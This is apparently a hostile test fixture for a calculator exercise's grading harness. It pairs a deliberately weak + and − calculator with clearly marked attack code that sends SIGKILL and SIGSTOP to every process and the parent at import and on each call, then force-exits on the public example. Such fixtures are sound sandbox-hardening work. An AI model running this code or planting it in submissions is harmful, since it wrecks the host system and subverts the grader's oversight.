"""Hostile submission `kill-all-then-crash` for the `calculatrice` exercise (see tests/hostile).

Attack: sends SIGKILL to -1 and SIGSTOP/SIGKILL to every other pid and its parent at
import and on every call (so whatever restarts it may be gone), then calls os._exit(9)
on (2+3)*4 so that it must be restarted.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import os
import signal
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
def _is_trigger(expression):
    """The public example (2+3)*4: the honest part gets it wrong anyway."""
    return expression.replace(" ", "") == "(2+3)*4"


def _kill_everyone():
    me = os.getpid()
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
    others.append(os.getppid())
    for pid in others:
        if pid <= 0 or pid == me:
            continue
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass


_kill_everyone()
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    _kill_everyone()
    if _is_trigger(expression):
        os._exit(9)
    # --- end of attack ---
    return _honest(expression)
